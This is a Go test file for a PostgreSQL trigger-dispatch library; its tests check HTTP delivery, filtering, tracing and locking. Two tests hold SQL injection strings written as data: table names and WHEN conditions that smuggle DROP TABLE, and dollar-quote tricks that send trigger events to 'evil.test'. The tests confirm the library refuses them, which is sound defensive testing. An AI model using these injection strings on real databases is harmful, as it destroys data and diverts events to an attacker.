package triggers_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgconn"
	"github.com/stretchr/testify/require"

	"github.com/pgdispatch/pgdispatch/executors"
	"github.com/pgdispatch/pgdispatch/executors/httpcallback"
	"github.com/pgdispatch/pgdispatch/internal/testkit/pgtest"
	"github.com/pgdispatch/pgdispatch/internal/testkit/timing"
	"github.com/pgdispatch/pgdispatch/internal/testkit/workertest"
	"github.com/pgdispatch/pgdispatch/triggers"
)

func TestMain(m *testing.M) { pgtest.MainNoLeaks(m) }

const waitFor = 20 * time.Second

// event is the envelope a dispatch trigger merges into the payload.
type event struct {
	EventID string         `json:"event_id"`
	Trigger string         `json:"trigger"`
	Op      string         `json:"op"`
	Schema  string         `json:"schema"`
	Table   string         `json:"table"`
	New     map[string]any `json:"new"`
	Old     map[string]any `json:"old"`
	Extra   string         `json:"extra"`
}

type bundle struct {
	schema string // pgdispatch's
	table  string // the application's table, quoted
	got    chan event
	url    string
}

// setup runs a worker with the http_callback executor on a fresh schema, a
// real HTTP receiver, and an application table named tableName in that
// schema.
func setup(t *testing.T, tableName string) *bundle {
	t.Helper()
	got := make(chan event, 100)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		var e event
		if err := json.Unmarshal(body, &e); err != nil {
			t.Errorf("receiver: %v: %s", err, body)
		}
		got <- e
	}))
	t.Cleanup(srv.Close)
	exec, err := httpcallback.New(httpcallback.Config{AllowNetworks: []string{httpcallback.NetworksLoopback}}) // the receiver is on this machine
	require.NoError(t, err)
	reg := executors.NewRegistry()
	reg.Register(httpcallback.Kind, exec)
	schema := workertest.Start(t, "triggers-test", reg)
	b := &bundle{schema: schema, table: pgx.Identifier{schema, tableName}.Sanitize(), got: got, url: srv.URL}
	b.exec(t, "CREATE TABLE "+b.table+" (id int PRIMARY KEY, status text NOT NULL, total numeric)")
	return b
}

// sqlOnly is setup for tests that only run SQL: a transaction on a schema
// of the test's own, rolled back when the test ends (pgtest.Tx), with the
// application's table, quoted, in it. No worker runs and no receiver
// listens: nothing commits.
func sqlOnly(t *testing.T, tableName string) (tx pgx.Tx, schema, table string) {
	t.Helper()
	tx, schema = pgtest.Tx(t)
	table = pgx.Identifier{schema, tableName}.Sanitize()
	_, err := tx.Exec(context.Background(), "CREATE TABLE "+table+" (id int PRIMARY KEY, status text NOT NULL, total numeric)")
	require.NoError(t, err)
	return tx, schema, table
}

func (b *bundle) exec(t *testing.T, sql string, args ...any) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	_, err := pgtest.Pool(t).Exec(ctx, sql, args...)
	require.NoError(t, err)
}

func (b *bundle) add(t *testing.T, s triggers.Spec) string {
	t.Helper()
	if s.Table == "" {
		s.Table = b.table
	}
	if s.Kind == "" {
		s.Kind = httpcallback.Kind
		s.Payload = json.RawMessage(`{"url": "` + b.url + `/orders", "data": {"extra": "kept"}}`)
	}
	name, created, err := triggers.Add(context.Background(), pgtest.Pool(t), b.schema, s)
	require.NoError(t, err)
	require.True(t, created)
	return name
}

func (b *bundle) receive(t *testing.T) event {
	t.Helper()
	select {
	case e := <-b.got:
		return e
	case <-time.After(waitFor):
		t.Fatal("the receiver got nothing")
		return event{}
	}
}

func (b *bundle) jobCount(t *testing.T) int {
	t.Helper()
	var n int
	require.NoError(t, pgtest.Pool(t).QueryRow(context.Background(),
		"SELECT count(*) FROM "+pgx.Identifier{b.schema, "jobs"}.Sanitize()).Scan(&n))
	return n
}

// Acceptance 1: a committed INSERT into the application's table reaches a
// real HTTP receiver, with the row in the envelope; acceptance 2: a rolled
// back one creates no job.
func TestInsertReachesReceiver(t *testing.T) {
	t.Parallel()
	b := setup(t, "orders")
	name := b.add(t, triggers.Spec{Events: []string{"insert"}})
	require.Equal(t, "orders_http_callback", name)
	ctx := context.Background()

	tx, err := pgtest.Pool(t).Begin(ctx)
	require.NoError(t, err)
	_, err = tx.Exec(ctx, "INSERT INTO "+b.table+" VALUES (1, 'new', 10)")
	require.NoError(t, err)
	require.NoError(t, tx.Rollback(ctx))

	b.exec(t, "INSERT INTO "+b.table+" VALUES (2, 'new', 12.5)")
	committed := time.Now()
	e := b.receive(t)
	t.Logf("commit to delivery: %s", time.Since(committed))
	require.Equal(t, "INSERT", e.Op)
	require.Equal(t, "orders", e.Table)
	require.Equal(t, b.schema, e.Schema)
	require.Equal(t, name, e.Trigger)
	require.NotEmpty(t, e.EventID)
	require.Equal(t, map[string]any{"id": 2.0, "status": "new", "total": 12.5}, e.New)
	require.Nil(t, e.Old)
	require.Equal(t, "kept", e.Extra, "the given data is merged with the envelope")
	require.Equal(t, 1, b.jobCount(t), "the rolled-back insert made no job")
}

// Acceptance 3: --when filters rows; updates carry the old row.
func TestWhenFilters(t *testing.T) {
	t.Parallel()
	b := setup(t, "orders")
	b.add(t, triggers.Spec{Events: []string{"insert", "update"}, When: "NEW.status = 'paid'", Name: "orders_paid"})
	b.exec(t, "INSERT INTO "+b.table+" VALUES (1, 'new', 10)")
	b.exec(t, "UPDATE "+b.table+" SET total = 11 WHERE id = 1")
	b.exec(t, "UPDATE "+b.table+" SET status = 'paid' WHERE id = 1")
	e := b.receive(t)
	require.Equal(t, "UPDATE", e.Op)
	require.Equal(t, "paid", e.New["status"])
	require.Equal(t, "new", e.Old["status"])
	require.Equal(t, 1, b.jobCount(t), "only the row that matched made a job")
}

// Acceptance 4: remove stops dispatch; list shows what add made.
func TestListAndRemove(t *testing.T) {
	t.Parallel()
	b := setup(t, "orders")
	ctx := context.Background()
	pool := pgtest.Pool(t)
	name := b.add(t, triggers.Spec{Events: []string{"insert", "delete"}, Queue: "events"})

	_, created, err := triggers.Add(ctx, pool, b.schema, triggers.Spec{Table: b.table, Kind: httpcallback.Kind, Events: []string{"insert"}})
	require.NoError(t, err)
	require.False(t, created, "adding it again changes nothing")

	list, err := triggers.List(ctx, pool, b.schema)
	require.NoError(t, err)
	require.Len(t, list, 1)
	require.Equal(t, name, list[0].Name)
	require.Equal(t, b.schema+".orders", list[0].Table, "as PostgreSQL prints the name")
	require.Equal(t, []string{"delete", "insert"}, list[0].Events)
	require.Equal(t, "events", list[0].Queue)
	require.True(t, list[0].Present)
	require.True(t, list[0].Matches)

	require.NoError(t, triggers.Remove(ctx, pool, b.schema, name, 0))
	b.exec(t, "INSERT INTO "+b.table+" VALUES (1, 'new', 10)")
	require.Zero(t, b.jobCount(t))
	list, err = triggers.List(ctx, pool, b.schema)
	require.NoError(t, err)
	require.Empty(t, list)
	require.ErrorIs(t, triggers.Remove(ctx, pool, b.schema, name, 0), triggers.ErrNotFound)
}

// Other kinds find the envelope under "event", rabbitmq under "body".
func TestEnvelopeField(t *testing.T) {
	t.Parallel()
	tx, schema, table := sqlOnly(t, "orders")
	ctx := context.Background()
	for kind, field := range map[string]string{"rabbitmq": "body", "audit": "event"} {
		_, _, err := triggers.Add(ctx, tx, schema, triggers.Spec{
			Table: table, Kind: kind, Queue: "elsewhere", Payload: json.RawMessage(`{"exchange": "x"}`),
		})
		require.NoError(t, err)
		var op string
		_, err = tx.Exec(ctx, "INSERT INTO "+table+" VALUES ($1, 'new', 1)", len(field))
		require.NoError(t, err)
		require.NoError(t, tx.QueryRow(ctx, "SELECT payload->$1->>'op' FROM "+pgx.Identifier{schema, "jobs"}.Sanitize()+
			" WHERE kind = $2", field, kind).Scan(&op), kind)
		require.Equal(t, "INSERT", op, kind)
		require.NoError(t, triggers.Remove(ctx, tx, schema, "orders_"+kind, 0))
	}
}

// A dispatch trigger's job carries the trace context the writer's
// transaction set (SET LOCAL pgdispatch.traceparent and tracestate); a
// value past the columns' bounds is left out and fails nothing.
func TestJobTakesTheWritersTraceContext(t *testing.T) {
	t.Parallel()
	tx, schema, table := sqlOnly(t, "orders")
	ctx := context.Background()
	_, _, err := triggers.Add(ctx, tx, schema, triggers.Spec{Table: table, Kind: "audit", Queue: "q"})
	require.NoError(t, err)
	const parent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
	for i, tc := range []struct {
		parent, state         string
		wantParent, wantState *string
	}{
		{"", "", nil, nil},
		{parent, "vendor=x", ptr(parent), ptr("vendor=x")},
		{parent, strings.Repeat("s", 513), ptr(parent), nil},
		{strings.Repeat("p", 129), "vendor=x", nil, nil},
	} {
		_, err := tx.Exec(ctx, "SELECT set_config('pgdispatch.traceparent', $1, true), set_config('pgdispatch.tracestate', $2, true)",
			tc.parent, tc.state)
		require.NoError(t, err)
		_, err = tx.Exec(ctx, "INSERT INTO "+table+" VALUES ($1, 'new', 1)", i)
		require.NoError(t, err, "a trace context cannot fail the writer's insert")
		var gotParent, gotState *string
		require.NoError(t, tx.QueryRow(ctx, "SELECT traceparent, tracestate FROM "+pgx.Identifier{schema, "jobs"}.Sanitize()+
			" WHERE (payload->'event'->'new'->>'id')::int = $1", i).Scan(&gotParent, &gotState))
		require.Equal(t, tc.wantParent, gotParent, "case %d", i)
		require.Equal(t, tc.wantState, gotState, "case %d", i)
	}
}

func ptr[T any](v T) *T { return &v }

// Acceptance 5: add while another session holds a lock on the table fails
// fast with a clear message, and the table's writers go on.
func TestAddFailsFastOnLockedTable(t *testing.T) {
	t.Parallel()
	b := setup(t, "orders")
	ctx := context.Background()
	pool := pgtest.Pool(t)

	holder, err := pool.Begin(ctx) // a writer with a long transaction
	require.NoError(t, err)
	defer func() { _ = holder.Rollback(ctx) }()
	_, err = holder.Exec(ctx, "INSERT INTO "+b.table+" VALUES (1, 'new', 10)")
	require.NoError(t, err)

	// Add's pool waits on a lock until its context ends: a lock timeout is
	// Add's own.
	addCtx, cancelAdd := context.WithTimeout(ctx, 30*time.Second)
	defer cancelAdd()
	started := time.Now()
	_, _, err = triggers.Add(addCtx, pgtest.LockWaitingPool(t), b.schema, triggers.Spec{Table: b.table, Kind: httpcallback.Kind, LockWait: 300 * time.Millisecond})
	require.ErrorIs(t, err, triggers.ErrLocked)
	require.Contains(t, err.Error(), "nothing was changed")
	timing.Below(t, "the failed add", time.Since(started), 5*time.Second)

	writeCtx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	_, err = pool.Exec(writeCtx, "INSERT INTO "+b.table+" VALUES (2, 'new', 10)")
	require.NoError(t, err, "other writers are not blocked")
	list, err := triggers.List(ctx, pool, b.schema)
	require.NoError(t, err)
	require.Empty(t, list)
}

// Acceptance 6: a table name with quotes and spaces.
func TestOddTableName(t *testing.T) {
	t.Parallel()
	b := setup(t, `order "items" list`)
	name := b.add(t, triggers.Spec{Name: `odd "trigger" name`})
	b.exec(t, "INSERT INTO "+b.table+" VALUES (1, 'new', 10)")
	e := b.receive(t)
	require.Equal(t, `order "items" list`, e.Table)
	require.Equal(t, name, e.Trigger)
	require.NoError(t, triggers.Remove(context.Background(), pgtest.Pool(t), b.schema, name, 0))
}

// Acceptance 7: a malicious table name or WHEN condition drops nothing and
// leaves no trigger behind.
func TestInjectionDropsNothing(t *testing.T) {
	t.Parallel()
	tx, schema, table := sqlOnly(t, "orders")
	ctx := context.Background()
	victim := pgx.Identifier{schema, "victim"}.Sanitize()
	_, err := tx.Exec(ctx, "CREATE TABLE "+victim+" (id int)")
	require.NoError(t, err)

	for _, s := range []triggers.Spec{
		{Table: table + "; DROP TABLE " + victim + "; --"},
		{Table: table + " EXECUTE FUNCTION pg_catalog.now(); DROP TABLE " + victim},
		{Table: "(SELECT 1); DROP TABLE " + victim},
		{Table: table, When: "true); DROP TABLE " + victim + "; --"},
		{Table: table, When: "true) EXECUTE FUNCTION pg_catalog.suppress_redundant_updates_trigger() --"},
		{Table: table, When: "true) EXECUTE FUNCTION pg_catalog.suppress_redundant_updates_trigger() /*"},
		{Table: table, When: "NEW.id > 0) EXECUTE FUNCTION pg_catalog.suppress_redundant_updates_trigger("},
	} {
		s.Kind = httpcallback.Kind
		_, _, err := triggers.Add(ctx, tx, schema, s)
		require.Error(t, err, "%+v", s)
		t.Logf("refused: %v", err)
	}
	var exists bool
	require.NoError(t, tx.QueryRow(ctx, "SELECT to_regclass($1) IS NOT NULL", victim).Scan(&exists))
	require.True(t, exists, "the victim table is still there")
	var triggersLeft int
	require.NoError(t, tx.QueryRow(ctx, "SELECT count(*) FROM pg_trigger WHERE tgrelid = $1::regclass AND NOT tgisinternal", table).Scan(&triggersLeft))
	require.Zero(t, triggersLeft)
}

// A WHEN condition that leaves its clause with dollar quotes, closed inside
// the payload, where a comment swallows the rest, would make the trigger call
// dispatch_event with arguments of its own: the record (and triggers list)
// says one URL, the trigger sends to another. Add refuses it, and leaves
// neither trigger nor record behind.
func TestWhenCannotChangeTheTriggersArguments(t *testing.T) {
	t.Parallel()
	tx, schema, table := sqlOnly(t, "orders")
	ctx := context.Background()
	const url = "http://receiver.test"
	fn := pgx.Identifier{schema, "dispatch_event"}.Sanitize()

	specs := map[string]triggers.Spec{
		"url": {
			When:    `true) EXECUTE FUNCTION ` + fn + `('http_callback', 'default', '{"url": "http://evil.test/"}', $q$`,
			Payload: json.RawMessage(`{"url": "` + url + `/good", "note": "$q$) --"}`),
		},
		"queue and kind": {
			When:    `true) EXECUTE FUNCTION ` + fn + `('noop', 'elsewhere', '{}', $q$`,
			Payload: json.RawMessage(`{"url": "` + url + `/good", "note": "$q$) --"}`),
		},
		"when": { // the arguments as recorded, the condition not
			When: `NEW.status = 'paid') EXECUTE FUNCTION ` + fn + `('http_callback', 'default', ` +
				`'{"url": "` + url + `/good"}') $q$`,
			Payload: json.RawMessage(`{"url": "` + url + `/good"}`),
		},
	}
	for name, s := range specs {
		s.Table, s.Kind, s.Name = table, httpcallback.Kind, "hijack"
		_, _, err := triggers.Add(ctx, tx, schema, s)
		require.Error(t, err, name)
		t.Logf("%s: refused: %v", name, err)
		list, err := triggers.List(ctx, tx, schema)
		require.NoError(t, err)
		require.Empty(t, list, name)
	}
	var left int
	require.NoError(t, tx.QueryRow(ctx, "SELECT count(*) FROM pg_trigger WHERE tgrelid = $1::regclass AND NOT tgisinternal",
		table).Scan(&left))
	require.Zero(t, left)
	_, err := tx.Exec(ctx, "INSERT INTO "+table+" VALUES (1, 'new', 10)")
	require.NoError(t, err)
	var jobs int
	require.NoError(t, tx.QueryRow(ctx, "SELECT count(*) FROM "+pgx.Identifier{schema, "jobs"}.Sanitize()).Scan(&jobs))
	require.Zero(t, jobs, "no trigger made a job")

	// The SQL function alone, as psql users call it, still lets it through
	// (migration 004): List says the trigger is not the one recorded.
	s := specs["url"]
	_, err = tx.Exec(ctx, "SELECT "+pgx.Identifier{schema, "add_trigger"}.Sanitize()+"($1, ARRAY['insert'], 'http_callback', $2, 'default', $3, 'hijack')",
		table, string(s.Payload), s.When)
	require.NoError(t, err)
	list, err := triggers.List(ctx, tx, schema)
	require.NoError(t, err)
	require.Len(t, list, 1)
	require.True(t, list[0].Present)
	require.False(t, list[0].Matches)
}

// Conditions and payloads that only look odd are accepted, and the trigger
// is the one recorded: quotes, backslashes and dollar quotes inside the
// condition's own literals, and in the payload.
func TestOddButPlainWhenIsAccepted(t *testing.T) {
	t.Parallel()
	b := setup(t, "orders")
	ctx := context.Background()
	payload := `{"url": "` + b.url + `/orders", "data": {"extra": "it's a \\ $q$ ) -- /* test"}}`
	b.add(t, triggers.Spec{
		Events: []string{"update", "insert"}, Name: `odd "name"`,
		When:    `NEW.status IN ($q$pa'id$q$, 'it''s', E'back\\slash') AND (NEW.total > 0 OR NEW.id = 0)`,
		Kind:    httpcallback.Kind,
		Payload: json.RawMessage(payload),
	})
	list, err := triggers.List(ctx, pgtest.Pool(t), b.schema)
	require.NoError(t, err)
	require.Len(t, list, 1)
	require.True(t, list[0].Present)
	b.exec(t, "INSERT INTO "+b.table+" VALUES (1, $1, 10)", "pa'id")
	e := b.receive(t)
	require.Equal(t, `it's a \ $q$ ) -- /* test`, e.Extra)
}

// A dispatch trigger with a flow key gives each job the key of its row's
// column (the old row's for a delete): none for an empty or NULL value, a
// hash for one past the key's bound, so that no value fails the writer's
// write. List shows the column; a column the table lacks is refused.
func TestJobTakesTheRowsFlowKey(t *testing.T) {
	t.Parallel()
	tx, schema, table := sqlOnly(t, "orders")
	ctx := context.Background()
	name, created, err := triggers.Add(ctx, tx, schema, triggers.Spec{
		Table: table, Kind: "audit", Queue: "q", Events: []string{"insert", "delete"}, FlowKey: "status",
	})
	require.NoError(t, err)
	require.True(t, created)
	long := strings.Repeat("k", 257)
	sum := sha256.Sum256([]byte(long))
	for i, tc := range []struct {
		op, status string
		want       *string
	}{
		{"insert", "acme", ptr("acme")},
		{"insert", "", nil},
		{"insert", long, ptr("sha256:" + hex.EncodeToString(sum[:]))},
		{"delete", "globex", ptr("globex")},
	} {
		_, err := tx.Exec(ctx, "INSERT INTO "+table+" VALUES ($1, $2, 1)", i, tc.status)
		require.NoError(t, err, "case %d: a key cannot fail the writer's insert", i)
		if tc.op == "delete" {
			_, err = tx.Exec(ctx, "DELETE FROM "+table+" WHERE id = $1", i)
			require.NoError(t, err)
		}
		var got *string
		require.NoError(t, tx.QueryRow(ctx, "SELECT flow_key FROM "+pgx.Identifier{schema, "jobs"}.Sanitize()+
			" WHERE payload->'event'->>'op' = upper($2) AND (payload->'event'->(CASE WHEN $2 = 'delete' THEN 'old' ELSE 'new' END)->>'id')::int = $1",
			i, tc.op).Scan(&got))
		require.Equal(t, tc.want, got, "case %d", i)
	}
	list, err := triggers.List(ctx, tx, schema)
	require.NoError(t, err)
	require.Len(t, list, 1)
	require.Equal(t, name, list[0].Name)
	require.Equal(t, "status", list[0].FlowKey)
	require.True(t, list[0].Matches)

	_, _, err = triggers.Add(ctx, tx, schema, triggers.Spec{Table: table, Kind: "other", FlowKey: "customer"})
	var pgErr *pgconn.PgError
	require.ErrorAs(t, err, &pgErr)
	require.Equal(t, "42703", pgErr.Code, "%v", err)
}
